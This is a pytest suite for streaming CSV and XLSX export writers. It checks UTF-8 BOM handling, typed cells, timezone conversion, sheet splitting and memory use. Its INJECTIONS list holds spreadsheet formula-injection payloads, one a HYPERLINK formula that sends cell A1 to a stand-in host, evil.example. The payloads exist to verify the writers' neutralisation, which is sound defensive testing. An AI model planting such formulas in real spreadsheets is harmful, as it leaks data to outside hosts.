"""The streaming CSV and XLSX writers: encoding, typed cells, formula injection, flat memory."""
import csv
import io
import tracemalloc
from datetime import UTC, date, datetime

import openpyxl
import pytest

from metrics.exports import Column, write_csv, write_xlsx, writers

COLUMNS = [
    ("unit", "Đơn vị", "text"),
    ("received", "Tin báo nhận", "int"),
    ("hours", "Giờ phản hồi TB", "float"),
    ("on_time", "Tỷ lệ đúng hạn", "percent"),
    ("day", "Ngày", "date"),
    ("created_at", "Thời điểm tiếp nhận", "datetime"),
]
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def _row(unit="Công an xã Long Đức", received=12, **overrides):
    row = {
        "unit": unit,
        "received": received,
        "hours": 3.25,
        "on_time": 0.953,
        "day": date(2025, 3, 5),
        "created_at": datetime(2025, 3, 5, 7, 30, tzinfo=UTC),
    }
    return row | overrides


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_csv_has_bom_and_vietnamese_round_trips():
    out = io.BytesIO()
    count = write_csv(COLUMNS, [_row("Công an tỉnh Trà Vinh"), _row("Phòng Cảnh sát hình sự")], out)
    data = out.getvalue()
    assert count == 2
    assert data.startswith(b"\xef\xbb\xbf")
    header, first, second = _csv_rows(data)
    assert header == ["Đơn vị", "Tin báo nhận", "Giờ phản hồi TB", "Tỷ lệ đúng hạn", "Ngày", "Thời điểm tiếp nhận"]
    assert first[0] == "Công an tỉnh Trà Vinh"
    assert second[0] == "Phòng Cảnh sát hình sự"


def test_csv_writes_iso_dates_local_datetimes_and_fractions():
    out = io.BytesIO()
    write_csv(COLUMNS, [_row()], out)
    assert _csv_rows(out.getvalue())[1] == [
        "Công an xã Long Đức", "12", "3.25", "0.953", "2025-03-05", "2025-03-05 14:30:00",
    ]


def test_csv_leaves_the_callers_file_open():
    out = io.BytesIO()
    write_csv(COLUMNS, [], out)
    assert not out.closed
    assert _csv_rows(out.getvalue()) == [[label for _, label, _ in COLUMNS]]


def test_csv_neutralises_formula_text_but_not_numbers():
    out = io.BytesIO()
    write_csv(COLUMNS, [_row(text, received=-5) for text in INJECTIONS], out)
    for text, line in zip(INJECTIONS, _csv_rows(out.getvalue())[1:], strict=False):
        assert line[0] == "'" + text
        assert line[1] == "-5"


def test_xlsx_header_is_bold_frozen_and_filtered():
    out = io.BytesIO()
    write_xlsx(COLUMNS, [_row()], out)
    sheet = _xlsx_sheet(out.getvalue())
    assert sheet.title == "Dữ liệu"
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == [label for _, label, _ in COLUMNS]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.auto_filter.ref == "A1:F2"
    assert sheet.column_dimensions["A"].width >= len("Đơn vị")


def test_xlsx_cells_are_typed():
    out = io.BytesIO()
    write_xlsx(COLUMNS, [_row()], out)
    unit, received, hours, on_time, day, created_at = _xlsx_sheet(out.getvalue())[2]
    assert unit.value == "Công an xã Long Đức"
    assert received.data_type == "n" and received.value == 12
    assert hours.data_type == "n" and hours.value == 3.25
    assert on_time.value == pytest.approx(0.953) and on_time.number_format == "0.0%"
    assert day.is_date and day.value == datetime(2025, 3, 5) and day.number_format == "dd/mm/yyyy"
    # 07:30 UTC is 14:30 in Asia/Ho_Chi_Minh.
    assert created_at.is_date and created_at.value == datetime(2025, 3, 5, 14, 30)
    assert created_at.number_format == "dd/mm/yyyy hh:mm"


def test_xlsx_injection_text_stays_text_and_negative_numbers_stay_numbers():
    out = io.BytesIO()
    write_xlsx(COLUMNS, [_row(text, received=-5) for text in INJECTIONS], out)
    rows = list(_xlsx_sheet(out.getvalue()).iter_rows(min_row=2))
    assert len(rows) == len(INJECTIONS)
    for text, (unit, received, *_rest) in zip(INJECTIONS, rows, strict=False):
        assert unit.data_type == "s"
        # openpyxl does not unescape the OOXML form of a carriage return in an inline string.
        assert unit.value.replace("_x000D_", "\r") == "'" + text
        assert received.data_type == "n" and received.value == -5


def test_value_that_does_not_fit_its_type_is_kept_as_neutralised_text():
    row = _row(received="=1+1", day="chưa rõ", hours=float("nan"), on_time=None)
    del row["created_at"]
    out = io.BytesIO()
    write_xlsx(COLUMNS, [row], out)
    cells = [cell.value for cell in _xlsx_sheet(out.getvalue())[2]]
    assert cells == ["Công an xã Long Đức", "'=1+1", None, None, "chưa rõ", None]
    out = io.BytesIO()
    write_csv(COLUMNS, [row], out)
    assert _csv_rows(out.getvalue())[1] == ["Công an xã Long Đức", "'=1+1", "", "", "chưa rõ", ""]


def test_iso_strings_and_naive_utc_datetimes_are_converted():
    row = _row(day="2025-03-05", created_at="2025-03-05T23:15:00")
    out = io.BytesIO()
    write_xlsx(COLUMNS, [row], out)
    *_rest, day, created_at = _xlsx_sheet(out.getvalue())[2]
    assert day.value == datetime(2025, 3, 5)
    assert created_at.value == datetime(2025, 3, 6, 6, 15)


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
@pytest.mark.parametrize(("rows", "calls"), [(10, [4, 8, 10]), (8, [4, 8]), (0, [0])])
def test_progress_is_reported_every_n_rows_and_at_the_end(write, rows, calls):
    reported = []
    count = write(COLUMNS, (_row() for _ in range(rows)), io.BytesIO(), progress=reported.append, progress_every=4)
    assert count == rows
    assert reported == calls


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_bad_column_specs_are_rejected(write):
    with pytest.raises(ValueError, match="unknown column type"):
        write([("unit", "Đơn vị", "money")], [], io.BytesIO())
    with pytest.raises(ValueError, match="at least one column"):
        write([], [], io.BytesIO())
    with pytest.raises(ValueError, match="progress_every"):
        write(COLUMNS, [], io.BytesIO(), progress_every=0)


def test_column_objects_and_tuples_are_interchangeable():
    as_tuples, as_columns = io.BytesIO(), io.BytesIO()
    write_csv(COLUMNS, [_row()], as_tuples)
    write_csv([Column(*column) for column in COLUMNS], [_row()], as_columns)
    assert as_tuples.getvalue() == as_columns.getvalue()


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(monkeypatch):
    monkeypatch.setattr(writers, "EXCEL_MAX_DATA_ROWS", 3)
    out = io.BytesIO()
    assert write_xlsx(COLUMNS, (_row(f"Xã {n}") for n in range(7)), out, sheet_name="Tin báo") == 7
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    assert book.sheetnames == ["Tin báo", "Tin báo (2)", "Tin báo (3)"]
    units = [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in book.worksheets]
    assert units == [["Đơn vị", "Xã 0", "Xã 1", "Xã 2"], ["Đơn vị", "Xã 3", "Xã 4", "Xã 5"], ["Đơn vị", "Xã 6"]]
    assert all(sheet.freeze_panes == "A2" for sheet in book.worksheets)


def test_failed_xlsx_export_writes_nothing_and_leaves_no_temp_files(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def failing_rows():
        yield _row()
        raise RuntimeError("database went away")

    out = io.BytesIO()
    with pytest.raises(RuntimeError):
        write_xlsx(COLUMNS, failing_rows(), out)
    assert out.getvalue() == b""
    assert list(tmp_path.iterdir()) == []


def _peak_memory(write, rows, path):
    # One column per kind of cell write keeps the test quick under tracemalloc.
    columns = [("unit", "Đơn vị", "text"), ("received", "Tin báo nhận", "int"), ("day", "Ngày", "date")]
    generated_rows = ({"unit": f"Công an xã số {n}", "received": n, "day": date(2025, 3, 5)} for n in range(rows))
    tracemalloc.start()
    try:
        with open(path, "wb") as out:
            assert write(columns, generated_rows, out) == rows
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_memory_stays_flat_as_rows_grow(write, tmp_path):
    _peak_memory(write, 1_000, tmp_path / "warm-up")
    small = _peak_memory(write, 20_000, tmp_path / "small")
    large = _peak_memory(write, 200_000, tmp_path / "large")
    assert large <= 2 * small, f"peak {large} B for 200k rows vs {small} B for 20k rows"


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_rows_given_as_tuples_in_column_order_make_the_same_file_as_dicts(write):
    """Registers stream tuples in column order (no dict per row); the file must not tell the difference."""
    rows = [_row(), _row("=1+1", received=None, created_at=datetime(2025, 3, 5, 23, 15))]
    keys = [key for key, _label, _type in COLUMNS]
    as_dicts, as_tuples = io.BytesIO(), io.BytesIO()
    assert write(COLUMNS, rows, as_dicts) == write(COLUMNS, [tuple(row[key] for key in keys) for row in rows],
                                                    as_tuples) == 2
    if write is write_csv:
        assert as_tuples.getvalue() == as_dicts.getvalue()
        assert _csv_rows(as_tuples.getvalue())[2] == [
            "'=1+1", "", "3.25", "0.953", "2025-03-05", "2025-03-06 06:15:00"]
    else:
        assert [[cell.value for cell in row] for row in _xlsx_sheet(as_tuples.getvalue()).iter_rows()] == [
            [cell.value for cell in row] for row in _xlsx_sheet(as_dicts.getvalue()).iter_rows()]
